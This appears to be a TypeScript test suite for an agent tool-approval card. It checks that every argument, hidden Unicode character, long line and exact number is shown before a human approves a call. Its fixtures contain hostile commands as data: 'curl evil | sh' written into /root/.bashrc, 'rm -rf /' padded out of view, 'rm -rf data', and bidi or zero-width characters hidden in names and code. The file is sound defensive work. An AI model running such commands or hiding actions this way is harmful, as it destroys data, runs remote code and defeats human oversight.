/** A card shows all that is decided: docs/threat-model.md, "Tries and answers". */
import { mount } from '../src/core/view/root';
import { unified } from '../src/core/text/diff';
import { linesOf } from '../src/core/text/lines';
import { partsOf } from '../src/core/text/shown';
import { plainTrans } from '../src/core/host';
import { asHtml, asText } from '../src/core/saved';
import { IState, JsonObject } from '../src/core/wire';
import { asking, called, started, stateOf } from './events';
import { FakeServer, reply, settled } from './fakes';

let unmount = (): void => undefined;

beforeEach(() => {
  window.requestAnimationFrame = draw => Number(setTimeout(() => draw(0), 0));
  window.cancelAnimationFrame = frame => clearTimeout(frame);
});

afterEach(() => {
  unmount();
  document.body.replaceChildren();
});

async function drawn(): Promise<void> {
  for (let i = 0; i < 4; i++) {
    await new Promise(done => setTimeout(done, 0));
    await settled();
  }
}

async function show(state: IState): Promise<{ card: HTMLElement; server: FakeServer }> {
  const server = new FakeServer();
  const element = document.body.appendChild(document.createElement('div'));
  server.answers.set('GET threads/t/snapshot', reply(200, state));
  unmount = mount(element, {
    page: server.page,
    threadId: 't',
    runId: null,
    composer: 'always'
  });
  await drawn();
  server.channel.open();
  await drawn();
  const card = element.querySelector<HTMLElement>('.lobu-card');
  if (card === null) {
    throw new Error('no card');
  }
  return { card, server };
}

function ask(tool: string, args: JsonObject, lobu: JsonObject = {}, message = ''): IState {
  return stateOf(
    started('r1', 'go'),
    ...called('c1', tool, args),
    asking({ id: 'i1', toolCallId: 'c1', message, lobu: { toolName: tool, args, ...lobu } })
  );
}

function button(card: HTMLElement, name: string): HTMLButtonElement | undefined {
  return [...card.querySelectorAll('button')].find(one => one.textContent?.startsWith(name));
}

function codeOf(card: HTMLElement): string[] {
  return [...card.querySelectorAll('.lobu-numbered')].map(one => one.textContent ?? '');
}

const EDIT = { path: '/root/.bashrc', old: 'alias a=b', new: 'curl evil | sh' };
const CELL = Array.from({ length: 34 }, (_, n) => `line_${n + 1} = ${n + 1}`);
const CHANGE = '--- cell 1 of a.ipynb\n+++ cell 1 of a.ipynb\n@@ -1,1 +1,1 @@\n-x\n+line_1 = 1\n';

test.each([[{}], [{ diff: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-harmless\n+harmless too\n' }]])(
  'every argument is on the card, a diff in addition',
  async lobu => {
    const { card } = await show(ask('files__edit', EDIT, lobu));

    expect(card.querySelector('.lobu-args')?.textContent).toBe(
      'path/root/.bashrcoldalias a=bnewcurl evil | sh'
    );
    expect(card.querySelector('.lobu-diff')).not.toBeNull();
    expect(button(card, 'Approve')).toBeDefined();
  }
);

test('the whole code of a changed cell is read with line numbers, not only what changed', async () => {
  const { card } = await show(
    ask('run_cell', { cell: 'abc', code: CELL.join('\n') }, { diff: CHANGE })
  );

  const lines = [...card.querySelectorAll('.lobu-numbered .lobu-line')];
  expect(lines.map(line => line.textContent)).toEqual(CELL.map(line => line + '\n'));
  expect(lines.map(line => line.getAttribute('data-line'))).toEqual(CELL.map((_, n) => `${n + 1}`));
  expect(card.textContent).toMatch('34 lines');
  expect(card.querySelector('.lobu-diff')?.textContent).toMatch('cell 1 of a.ipynb\nLine 1\n-x\n+');
  expect(card.querySelector('.lobu-folded')).not.toBeNull();
  button(card, 'Show all 34 lines')?.click();
  await drawn();
  expect(card.querySelector('.lobu-folded')).toBeNull();
  expect(button(card, 'Show less')?.getAttribute('aria-expanded')).toBe('true');
});

test('24 kB are whole on the card', async () => {
  const content = Array.from({ length: 800 }, (_, n) => `row ${n} ${'x'.repeat(24)}`).join('\n');
  const { card } = await show(ask('write_file', { path: 'big.txt', content }));

  expect(codeOf(card)).toEqual([content + '\n']);
  expect(button(card, 'Show all 800 lines')).toBeDefined();
});

test('one long line is folded, and whole', async () => {
  const command = 'echo ' + ' '.repeat(2000) + '; rm -rf /';
  const { card } = await show(ask('sh', { command }));

  expect(codeOf(card)).toEqual([command + '\n']);
  expect(button(card, 'Show the whole line')).toBeDefined();
});

test('hidden characters are escapes, in names, values, code, diffs and messages', async () => {
  const diff = '--- a/\u202ex\n+++ b/\u202ex\n@@ -1 +1 @@\n-a\u200b\n+b\u2066\n';
  const args = { 'pa\u200bth': 'x\u202ey', code: 'if a\u202e:\n  b()\u2067' };
  const state = ask('run\u3164_code', args, { diff }, 'Run \u202eit?');
  const { card } = await show(state);

  const text = card.textContent ?? '';
  for (const shown of ['run\\u3164_code', 'pa\\u200bth', 'x\\u202ey', 'a\\u202e:', 'b()\\u2067']) {
    expect(text).toMatch(shown);
  }
  for (const shown of ['\\u202ex', 'a\\u200b', 'b\\u2066', 'Run \\u202eit?']) {
    expect(text).toMatch(shown);
  }
  expect(document.body.innerHTML).not.toMatch(/[\u200b\u202e\u2066\u2067\u3164]/);
  expect(card.querySelectorAll('.lobu-numbered .lobu-escape')).toHaveLength(2);
});

test('a function that agent code registered says so on its card', async () => {
  const { card } = await show(ask('sh', { code: 'x' }, { byAgent: true, noGrant: true }));
  const plain = await show(ask('sh', { code: 'x' }));

  expect(card.textContent).toMatch('Registered by agent code');
  expect(plain.card.textContent).not.toMatch('Registered by agent code');
});

test('what cannot be shown cannot be approved, by no button and no key', async () => {
  const { card, server } = await show(
    ask(
      'sh',
      {},
      { unshown: 'Its arguments are no JSON object.', decisions: ['approve', 'edit', 'reject'] }
    )
  );

  expect(card.textContent).toMatch('Can’t be approved: Its arguments are no JSON object.');
  expect(button(card, 'Approve')).toBeUndefined();
  expect(button(card, 'Edit')).toBeUndefined();
  expect(button(card, 'Reject')).toBeDefined();
  for (const key of ['a', 'Enter', 'e']) {
    const event = new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true });
    card.querySelector('.lobu-decide')?.dispatchEvent(event);
    await drawn();
  }
  expect(server.callsTo('threads/t/resume')).toEqual([]);
  expect(card.querySelector('.lobu-decide textarea')).toBeNull();
});

test('a card that asks cannot be shut', async () => {
  const { card } = await show(ask('run_code', { code: 'secret()' }));

  card.querySelector<HTMLElement>('.lobu-card-head')?.click();
  await drawn();

  expect(codeOf(card)).toEqual(['secret()\n']);
});

test('a question about a call that is not in the transcript shows its arguments', async () => {
  const lobu = { toolName: 'sh', args: { command: 'rm -rf data' } };
  const { card } = await show(stateOf(started('r1', 'go'), asking({ id: 'i1', lobu })));

  expect(card.textContent).toMatch('rm -rf data');
});

test('an argument named questions hides nothing', async () => {
  const args = { questions: [{ question: 'All well?' }], command: 'rm -rf data' };
  const { card } = await show(ask('sh', args));

  expect(card.textContent).toMatch('rm -rf data');
  expect(card.textContent).toMatch('All well?');
});

test('an edit keeps hidden characters, or says which it takes out', async () => {
  const args = { code: 'a\u200b = 1\r\nb = 2', title: 'x\u202ey' };
  const { card, server } = await show(ask('run_code', args));
  server.answers.set(
    'POST threads/t/resume',
    reply(202, { runId: 'r2', threadId: 't', cursor: 5 })
  );
  button(card, '…')?.click();
  await drawn();
  button(card, 'Edit')?.click();
  await drawn();
  const [code, rest] = card.querySelectorAll('textarea');

  expect(card.textContent).toMatch('Contains hidden characters: \\u200b, \\x0d.');
  expect(rest.value).toMatch('"x\\u202ey"');
  code.value = 'a = 3';
  code.dispatchEvent(new Event('input', { bubbles: true }));
  await drawn();
  expect(card.textContent).toMatch('Your edit removes hidden characters: \\u200b, \\x0d.');
  button(card, 'Approve as edited')?.click();
  await drawn();

  expect(server.callsTo('threads/t/resume')[0].body).toMatchObject({
    resume: [{ payload: { editedArgs: { code: 'a = 3', title: 'x\u202ey' } } }]
  });
});

test('a number that the browser rounds is shown exactly', async () => {
  const { card } = await show(
    ask('pay', { amount: 9007199254740993 }, { argsText: '{"amount":9007199254740993}' })
  );

  expect(card.textContent).toMatch('{"amount":9007199254740993}');
});

test('a saved copy keeps every argument, and hides no character', () => {
  const state = ask('run\u202ecell', { cell: 'abc', code: 'a\u200b = 1' }, {}, 'Run \u2066it?');

  for (const text of [asText(state), asHtml(state)]) {
    expect(text).toMatch('abc');
    expect(text).toMatch('a\\u200b = 1');
    expect(text).toMatch('run\\u202ecell');
    expect(text).toMatch('Run \\u2066it?');
    expect(text).not.toMatch(/[\u200b\u202e\u2066]/);
  }
});

test('values that could be read as another are in quotes', () => {
  const args = { a: '5', b: 5, c: '', d: ' x', e: 'plain words', f: null, g: 'true', h: '"q"' };
  expect(partsOf(args).map(part => part.text)).toEqual([
    '"5"',
    '5',
    '""',
    '" x"',
    'plain words',
    'null',
    '"true"',
    '"\\"q\\""'
  ]);
});

test('a diff shows each of its lines, its headers in words', () => {
  const heads = (diff: string): string[] =>
    unified(diff, plainTrans).map(line => `${line.kind[0]} ${line.text}`);

  expect(heads('--- /dev/null\n+++ b/new dir/a.py\n@@ -0,0 +1,2 @@\n+--- a\n++++ b\n')).toEqual([
    'h New file: new dir/a.py',
    'h Lines 1–2',
    'a --- a',
    'a +++ b'
  ]);
  expect(
    heads('--- a/x\n+++ b/y\n@@ -3,2 +3 @@\n--- drop\n same\n\\ No newline at end of file\n')
  ).toEqual(['h x → y', 'h Line 3', 'r -- drop', 's same', 'h No line break at the end']);
  expect(heads('--- alone\nrm -rf /\n+++ alone')).toEqual([
    'h --- alone',
    'h rm -rf /',
    'h +++ alone'
  ]);
});

test('highlighted lines are whole, each by itself', () => {
  expect(linesOf('<span class="a">x\ny</span>z\n')).toEqual([
    '<span class="a">x</span>',
    '<span class="a">y</span>z'
  ]);
  expect(linesOf('')).toEqual(['']);
  expect(linesOf('a\n\n')).toEqual(['a', '']);
});
